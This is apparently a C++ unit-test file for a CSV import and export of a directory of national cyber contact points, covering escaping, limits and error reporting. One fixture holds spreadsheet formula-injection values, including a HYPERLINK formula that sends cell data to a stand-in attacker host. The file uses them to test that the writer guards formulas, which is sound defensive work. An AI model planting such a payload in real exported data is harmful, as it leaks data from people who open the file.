#include "domain/formats/directory_csv.h"

#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

namespace liaison::domain {
namespace {

constexpr std::string_view kHeader =
    "id,state,level,status,name,short_name,structure_type,institution,position,constituency,"
    "website,functional_email,personal_email,phones,languages,time_zone,around_the_clock,hours,"
    "openpgp_key,openpgp_fingerprint,channels,deputy_id,version,confirmed_at,verified_at";

DirectoryRow policy_poc() {
  DirectoryRow row;
  row.id = "0190a0b0-0000-7000-8000-000000000001";
  row.state = "AT";
  row.level = Level::policy;
  row.contact.name = "Dr. Anna \"Anni\" Müller, MA";
  row.contact.institution = "Federal Ministry for European and International Affairs";
  row.contact.position = "Head of Cyber Diplomacy; Deputy Director";
  row.contact.functional_email = "cyber@bmeia.gv.at";
  row.contact.personal_email = "anna.mueller@bmeia.gv.at";
  row.contact.phones = {{"+4315011500", "office; \"main\" line, Vienna", false},
                        {"+436641234567", " mobile\nafter hours\\duty ", true}};
  row.contact.languages = {"de", "en", "fr"};
  row.contact.time_zone = "Europe/Vienna";
  row.contact.hours = "Mon–Fri 09:00–17:00\nclosed on public holidays, e.g. 26 October";
  row.contact.openpgp = OpenPgpKey{
      "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmDMEZk1=\n=abcd\n-----END PGP PUBLIC KEY "
      "BLOCK-----\n",
      "0123456789ABCDEF0123456789ABCDEF01234567"};
  row.contact.channels = {{"Signal", "+436641234567"},
                          {"OSCE Communications Network; node 7", "AT-01\nroom 3"}};
  row.contact.deputy_id = "0190a0b0-0000-7000-8000-000000000002";
  row.version = 7;
  row.confirmed_at = "2025-01-15T10:00:00.000000Z";
  row.verified_at = "2025-02-01T08:30:00.000000Z";
  return row;
}

DirectoryRow structure() {
  DirectoryRow row;
  row.id = "0190a0b0-0000-7000-8000-000000000003";
  row.state = "EG";
  row.level = Level::structure;
  row.contact.name = "المركز الوطني للاستجابة لطوارئ الحاسب";
  row.contact.short_name = "EG-CERT";
  row.contact.structure_type = StructureType::csirt;
  row.contact.constituency = "Government, critical infrastructure; the ICT sector";
  row.contact.website = "https://www.egcert.eg/";
  row.contact.functional_email = "incident@egcert.eg";
  row.contact.phones = {{"+20235341900", "", true}};
  row.contact.languages = {"ar", "en"};
  row.contact.time_zone = "Africa/Cairo";
  row.contact.around_the_clock = true;
  row.version = 2;
  return row;
}

// Values a spreadsheet would run as formulas, and values that only look guarded.
DirectoryRow formulas() {
  DirectoryRow row;
  row.state = "FR";
  row.level = Level::technical;
  row.status = EntryStatus::retired;
  row.contact.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  row.contact.institution = "'=already quoted";
  row.contact.position = "''+two apostrophes";
  row.contact.hours = "-1 hour";
  row.contact.time_zone = "@home";
  row.contact.functional_email = "'apostrophe@example.org";
  row.contact.deputy_id = "\tleading tab";
  row.contact.channels = {{"-", "@x"}};
  return row;
}

// A new entry with almost nothing in it.
DirectoryRow minimal() {
  DirectoryRow row;
  row.state = "CN";
  row.level = Level::technical;
  row.contact.name = "值班室";
  row.contact.functional_email = "duty@example.cn";
  return row;
}

std::string csv(std::string_view body) {
  return std::string(kHeader) + "\r\n" + std::string(body);
}

std::string describe(const std::vector<LineProblem>& problems) {
  std::string text;
  for (const auto& p : problems)
    text += "line " + std::to_string(p.line) + " [" + p.field + "] " + p.message + "\n";
  return text;
}

bool has_problem(const CsvReadResult& result, long line, std::string_view field,
                 std::string_view message_part = {}) {
  for (const auto& p : result.problems) {
    if (p.line == line && p.field == field && p.message.find(message_part) != std::string::npos)
      return true;
  }
  return false;
}

// --- writing and reading back ----------------------------------------------------------------

TEST(DirectoryCsv, WriteThenReadGivesBackTheSameRows) {
  std::vector<DirectoryRow> rows{policy_poc(), structure(), formulas(), minimal()};
  auto text = write_directory_csv(rows);
  auto result = read_directory_csv(text);
  EXPECT_TRUE(result.problems.empty()) << describe(result.problems) << text;
  ASSERT_EQ(result.rows.size(), rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) {
    EXPECT_EQ(result.rows[i].contact, rows[i].contact) << "row " << i;
    EXPECT_EQ(result.rows[i], rows[i]) << "row " << i;
  }
  // And once more: what was read writes the same bytes.
  EXPECT_EQ(write_directory_csv(result.rows), text);
}

TEST(DirectoryCsv, WritesABomTheHeaderAndCrlfLines) {
  std::vector<DirectoryRow> rows{minimal()};
  auto text = write_directory_csv(rows);
  EXPECT_EQ(text,
            "\xEF\xBB\xBF" + std::string(kHeader) +
                "\r\n,CN,technical,active,值班室,,,,,,,duty@example.cn,,,,,false,,,,,,,,\r\n");
  EXPECT_EQ(write_directory_csv({}), "\xEF\xBB\xBF" + std::string(kHeader) + "\r\n");
}

TEST(DirectoryCsv, GuardsFormulasWithOneApostrophe) {
  DirectoryRow row = minimal();
  row.contact.name = "=1+1";
  row.contact.phones = {{"+4315011500", "office", true}};
  row.contact.languages = {"zh-Hans", "en"};
  std::vector<DirectoryRow> rows{row};
  auto text = write_directory_csv(rows);
  EXPECT_NE(text.find(",'=1+1,"), std::string::npos) << text;
  // E.164 numbers begin with '+'; the cell is guarded and quoted (it holds ';').
  EXPECT_NE(text.find(",\"'+4315011500;office;24/7\",zh-Hans en,"), std::string::npos) << text;
  auto back = read_directory_csv(text);
  ASSERT_EQ(back.rows.size(), 1U) << describe(back.problems);
  EXPECT_EQ(back.rows[0].contact.name, "=1+1");
  EXPECT_EQ(back.rows[0].contact.phones, row.contact.phones);
}

TEST(DirectoryCsv, WritesListsInTheDocumentedEncoding) {
  DirectoryRow row = policy_poc();
  std::vector<DirectoryRow> rows{row};
  auto text = write_directory_csv(rows);
  // Parts escaped (\; \n \\, \s at either end of a part), one item per line, quotes doubled.
  EXPECT_NE(text.find("\"'+4315011500;office\\; \"\"main\"\" line, Vienna\n"
                      "+436641234567;\\smobile\\nafter hours\\\\duty\\s;24/7\""),
            std::string::npos)
      << text;
  EXPECT_NE(text.find(",\"Signal;+436641234567\nOSCE Communications Network\\; node 7;AT-01\\nroom "
                      "3\","),
            std::string::npos)
      << text;
}

TEST(DirectoryCsv, ReadsListsWrittenByHand) {
  auto result = read_directory_csv(
      csv(",AT,technical,,Duty officer,,,,,,,duty@example.at,,\"+4315011500 ; office ; 24/7\n\n"
          "+4315011501\r\n+4315011502;\",  en\tfr  de ,,,,,,\"Signal; +43660000000\",,,,\r\n"));
  ASSERT_TRUE(result.problems.empty()) << describe(result.problems);
  ASSERT_EQ(result.rows.size(), 1U);
  const auto& contact = result.rows[0].contact;
  EXPECT_EQ(contact.phones, (std::vector<Phone>{{"+4315011500", "office", true},
                                                {"+4315011501", "", false},
                                                {"+4315011502", "", false}}));
  EXPECT_EQ(contact.languages, (std::vector<std::string>{"en", "fr", "de"}));
  EXPECT_EQ(contact.channels, (std::vector<SecureChannel>{{"Signal", "+43660000000"}}));
  EXPECT_EQ(result.rows[0].status, EntryStatus::active);
}

TEST(DirectoryCsv, AKeyWithoutItsFingerprintReadsBackAsIs) {
  DirectoryRow row = structure();
  row.contact.openpgp = OpenPgpKey{"armored", ""};
  std::vector<DirectoryRow> rows{row};
  auto result = read_directory_csv(write_directory_csv(rows));
  ASSERT_EQ(result.rows.size(), 1U) << describe(result.problems);
  EXPECT_EQ(result.rows[0].contact.openpgp, row.contact.openpgp);
}

// --- the file as a whole ---------------------------------------------------------------------

TEST(DirectoryCsv, AcceptsABomCrlfLfAndCrLineEnds) {
  std::string body = ",AT,technical,,A,,,,,,,a@example.at,,,,,,,,,,,,,";
  for (std::string_view end : {"\r\n", "\n", "\r"}) {
    std::string text = "\xEF\xBB\xBF" + std::string(kHeader);
    for (const auto& line : {std::string(), body, body})
      (text += line) += end;
    auto result = read_directory_csv(text);
    EXPECT_TRUE(result.problems.empty()) << describe(result.problems);
    EXPECT_EQ(result.rows.size(), 2U);
  }
}

TEST(DirectoryCsv, ColumnsMayComeInAnyOrderAndMostMayBeLeftOut) {
  auto result = read_directory_csv(
      " Name ,LEVEL,state,functional_email\nCERT.at,structure,aut,team@cert.at\n\n");
  ASSERT_TRUE(result.problems.empty()) << describe(result.problems);
  ASSERT_EQ(result.rows.size(), 1U);
  EXPECT_EQ(result.rows[0].contact.name, "CERT.at");
  EXPECT_EQ(result.rows[0].level, Level::structure);
  EXPECT_EQ(result.rows[0].state, "AUT");
  EXPECT_EQ(result.rows[0].contact.functional_email, "team@cert.at");
  EXPECT_EQ(result.rows[0].contact.structure_type, StructureType::other);
}

TEST(DirectoryCsv, SkipsBlankAndEmptiedLines) {
  auto result = read_directory_csv(
      "state,level,name,functional_email\r\n\r\n,,,\r\n"
      "AT,policy,A,a@example.at\r\n,,,\r\n\r\n");
  EXPECT_TRUE(result.problems.empty()) << describe(result.problems);
  EXPECT_EQ(result.rows.size(), 1U);
  EXPECT_EQ(result.row_lines, std::vector<long>{4});
}

TEST(DirectoryCsv, AHeaderWithoutRowsIsAnEmptyDirectory) {
  auto result = read_directory_csv(csv(""));
  EXPECT_TRUE(result.problems.empty()) << describe(result.problems);
  EXPECT_TRUE(result.rows.empty());
}

TEST(DirectoryCsv, AnEmptyFileIsAProblem) {
  for (std::string_view text : {"", "\xEF\xBB\xBF"}) {
    auto result = read_directory_csv(text);
    ASSERT_EQ(result.problems.size(), 1U);
    EXPECT_EQ(result.problems[0].line, 1);
    EXPECT_NE(result.problems[0].message.find("name the columns"), std::string::npos);
  }
}

TEST(DirectoryCsv, NamesAnUnknownColumnAndReadsTheRest) {
  auto result = read_directory_csv(
      "state,level,name,functional_email,fax\n"
      "AT,policy,A,a@example.at,+43123\n");
  ASSERT_EQ(result.problems.size(), 1U) << describe(result.problems);
  EXPECT_EQ(result.problems[0].line, 1);
  EXPECT_EQ(result.problems[0].field, "fax");
  EXPECT_NE(result.problems[0].message.find("'fax' is not a column"), std::string::npos);
  EXPECT_EQ(result.rows.size(), 1U);
}

TEST(DirectoryCsv, MissingRequiredColumnsStopTheRead) {
  auto result = read_directory_csv("name,functional_email\nA,a@example.at\nB,b@example.at\n");
  EXPECT_TRUE(result.rows.empty());
  EXPECT_EQ(result.problems.size(), 2U) << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 1, "state", "is missing"));
  EXPECT_TRUE(has_problem(result, 1, "level", "is missing"));
}

TEST(DirectoryCsv, DuplicateAndUnnamedColumnsAreProblems) {
  auto result = read_directory_csv("state,level,name,,Name\nAT,policy,A,,B\n");
  EXPECT_TRUE(result.rows.empty());
  EXPECT_TRUE(has_problem(result, 1, "", "column 4 of the header has no name"))
      << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 1, "name", "twice"));
}

TEST(DirectoryCsv, RefusesMoreThanTenMebibytes) {
  std::string text = csv("");
  text.resize(kDirectoryCsvMaxBytes + 1, '\n');
  auto result = read_directory_csv(text);
  EXPECT_TRUE(result.rows.empty());
  ASSERT_EQ(result.problems.size(), 1U);
  EXPECT_EQ(result.problems[0].line, 0);
  EXPECT_NE(result.problems[0].message.find("10 MiB"), std::string::npos);
}

TEST(DirectoryCsv, RefusesMoreThanAHundredThousandRowsWithOneProblem) {
  std::string text = "state,level,name,functional_email\n";
  for (std::size_t i = 0; i <= kDirectoryCsvMaxRows; ++i)
    text += "AT,policy,A,a@example.at\n";
  auto result = read_directory_csv(text);
  EXPECT_TRUE(result.rows.empty());
  EXPECT_TRUE(result.row_lines.empty());
  ASSERT_EQ(result.problems.size(), 1U) << describe(result.problems);
  EXPECT_EQ(result.problems[0].line, static_cast<long>(kDirectoryCsvMaxRows) + 2);
  EXPECT_NE(result.problems[0].message.find("more than 100000 rows"), std::string::npos);
}

TEST(DirectoryCsv, ReadsExactlyAHundredThousandRows) {
  std::string text = "state,level,name,functional_email\n";
  for (std::size_t i = 0; i < kDirectoryCsvMaxRows; ++i)
    text += "AT,policy,A,a@example.at\n";
  auto result = read_directory_csv(text);
  EXPECT_TRUE(result.problems.empty());
  EXPECT_EQ(result.rows.size(), kDirectoryCsvMaxRows);
}

TEST(DirectoryCsv, KeepsTheFirstTenThousandProblemsAndCountsTheRest) {
  std::string text = "state,level,name,functional_email\n";
  for (int i = 0; i < 10'005; ++i)
    text += "AT,tech,A,a@example.at\n";
  auto result = read_directory_csv(text);
  ASSERT_EQ(result.problems.size(), kDirectoryCsvMaxProblems + 1);
  EXPECT_EQ(result.problems.back().line, 0);
  EXPECT_NE(result.problems.back().message.find("5 further problems"), std::string::npos);
}

// --- bad lines -------------------------------------------------------------------------------

TEST(DirectoryCsv, ReportsTheLineAndColumnOfEachBadValue) {
  auto result = read_directory_csv(
      "state,level,name,functional_email,status,structure_type,around_the_clock,version\n"
      "AT,tech,A,a@example.at,active,,false,1\n"           // 2
      "XX1,policy,A,a@example.at,active,,false,1\n"        // 3
      ",policy,A,a@example.at,active,,false,1\n"           // 4
      "AT,,A,a@example.at,active,,false,1\n"               // 5
      "AT,policy,A,a@example.at,gone,,false,1\n"           // 6
      "AT,structure,A,a@example.at,active,cert,false,1\n"  // 7
      "AT,policy,A,a@example.at,active,,maybe,1\n"         // 8
      "AT,policy,A,a@example.at,active,,false,-3\n"        // 9
      "AT,policy,A,a@example.at,active,,false,1\n");       // 10: fine
  EXPECT_EQ(
      result.problems,
      (std::vector<LineProblem>{
          {2, "level", "'tech' is not one of policy, technical, structure"},
          {3, "state", "'XX1' is not an ISO 3166-1 alpha-2 (\"FR\") or alpha-3 (\"FRA\") code"},
          {4, "state", "is required"},
          {5, "level", "is required: one of policy, technical, structure"},
          {6, "status", "'gone' is not one of active, retired"},
          {7, "structure_type", "'cert' is not one of csirt, cyber_agency, mfa_desk, other"},
          {8, "around_the_clock", "'maybe' is neither true nor false"},
          {9, "version", "'-3' is not a version number"},
      }))
      << describe(result.problems);
  ASSERT_EQ(result.rows.size(), 1U);
}

TEST(DirectoryCsv, MapsContactProblemsToTheirColumns) {
  auto result = read_directory_csv(
      csv(",AT,policy,,,,,,,,https://x.example,not-an-address,,\"+4315011500\n0043 1 234\",en "
          "f_r,,,,,fingerprint-only,\"Signal;\",,,,\n"));
  EXPECT_TRUE(result.rows.empty());
  EXPECT_TRUE(has_problem(result, 2, "name", "is required")) << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 2, "website", "does not apply"));
  EXPECT_TRUE(has_problem(result, 2, "functional_email", "is not an e-mail address"));
  EXPECT_TRUE(has_problem(result, 2, "phones", "phones[1].number "));
  EXPECT_TRUE(has_problem(result, 2, "languages", "languages[1] "));
  EXPECT_TRUE(has_problem(result, 2, "openpgp_key", "is empty"));
  EXPECT_TRUE(has_problem(result, 2, "channels", "channels[0].address "));
}

TEST(DirectoryCsv, ReportsBadListCells) {
  auto result = read_directory_csv(
      "state,level,name,functional_email,phones,channels,languages\n"
      "AT,policy,A,a@example.at,+4315011500;office;24/7;extra,,\n"  // 2
      "AT,policy,A,a@example.at,+4315011500;office;always,,\n"      // 3
      "AT,policy,A,a@example.at,+4315011500;off\\ice,,\n"           // 4
      "AT,policy,A,a@example.at,+4315011500;office\\,,\n"           // 5
      "AT,policy,A,a@example.at,,a;b;c,\n"                          // 6
      "AT,policy,A,a@example.at,,,en \\x\n");                       // 7
  EXPECT_TRUE(result.rows.empty());
  EXPECT_TRUE(has_problem(result, 2, "phones", "phones[0] has 4 parts"))
      << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 3, "phones", "'always' where only 24/7"));
  EXPECT_TRUE(has_problem(result, 4, "phones", "unknown escape \\i"));
  EXPECT_TRUE(has_problem(result, 5, "phones", "lone backslash"));
  EXPECT_TRUE(has_problem(result, 6, "channels", "channels[0] has 3 parts"));
  EXPECT_TRUE(has_problem(result, 7, "languages", "languages[1] has an unknown escape \\x"));
  EXPECT_EQ(result.problems.size(), 6U) << describe(result.problems);
}

TEST(DirectoryCsv, ReportsMalformedCsvAndReadsOn) {
  auto result = read_directory_csv(
      "state,level,name,functional_email\n"
      "AT,policy,A \"B\",a@example.at\n"           // 2: quote in an unquoted field
      "AT,policy,\"A\" B,a@example.at\n"           // 3: text after the closing quote
      "AT,policy,A,a@example.at,extra\n"           // 4: too many fields
      "AT,policy,A\n"                              // 5: too few
      "AT,policy,\"fine, quoted\",a@example.at\n"  // 6
      "AT,policy,\"never closed,a@example.at\n"    // 7
      "AT,policy,B,b@example.at\n");
  EXPECT_EQ(result.problems.size(), 5U) << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 2, "", "a quote inside a field"));
  EXPECT_TRUE(has_problem(result, 3, "", "text after the closing quote"));
  EXPECT_TRUE(has_problem(result, 4, "", "has 5 fields where the header names 4 columns"));
  EXPECT_TRUE(has_problem(result, 5, "", "has 3 fields"));
  EXPECT_TRUE(has_problem(result, 7, "", "the quoted field that begins on line 7 is never closed"));
  ASSERT_EQ(result.rows.size(), 1U);
  EXPECT_EQ(result.rows[0].contact.name, "fine, quoted");
  EXPECT_EQ(result.row_lines, std::vector<long>{6});
}

TEST(DirectoryCsv, CountsLinesInsideQuotedFields) {
  auto result = read_directory_csv(
      "state,level,name,functional_email,hours\r\n"
      "AT,policy,A,a@example.at,\"Mon–Fri\r\n09:00–17:00\r\nexcept holidays\"\r\n"  // 2-4
      "AT,tech,B,b@example.at,\"one\ntwo\"\r\n"                                     // 5-6
      "AT,policy,C,c@example.at,\"x\rx\"\r\n"                                       // 7-8
      "AT,tech,D,d@example.at,\r\n");                                               // 9
  EXPECT_EQ(result.problems.size(), 3U) << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 5, "level", "'tech'"));
  EXPECT_TRUE(has_problem(result, 7, "hours", "control characters"));
  EXPECT_TRUE(has_problem(result, 9, "level", "'tech'"));
  ASSERT_EQ(result.rows.size(), 1U);
  EXPECT_EQ(result.row_lines, std::vector<long>{2});
  // CR LF inside a quoted field is read as LF.
  EXPECT_EQ(result.rows[0].contact.hours, "Mon–Fri\n09:00–17:00\nexcept holidays");
}

TEST(DirectoryCsv, ReportsInvalidUtf8InTheCell) {
  auto result = read_directory_csv(
      "state,level,name,functional_email,id\n"
      "AT,policy,A\xC3,a@example.at,\xFF\xFE\n");
  EXPECT_TRUE(result.rows.empty());
  EXPECT_TRUE(has_problem(result, 2, "name", "not valid UTF-8")) << describe(result.problems);
  EXPECT_TRUE(has_problem(result, 2, "id", "not valid UTF-8"));
  EXPECT_EQ(result.problems.size(), 2U) << describe(result.problems);
}

TEST(DirectoryCsv, QuotesLongValuesShortInMessages) {
  std::string level(200, 'x');
  auto result =
      read_directory_csv("state,level,name,functional_email\nAT," + level + ",A,a@example.at\n");
  ASSERT_EQ(result.problems.size(), 1U);
  EXPECT_LT(result.problems[0].message.size(), 120U) << result.problems[0].message;
}

}  // namespace
}  // namespace liaison::domain
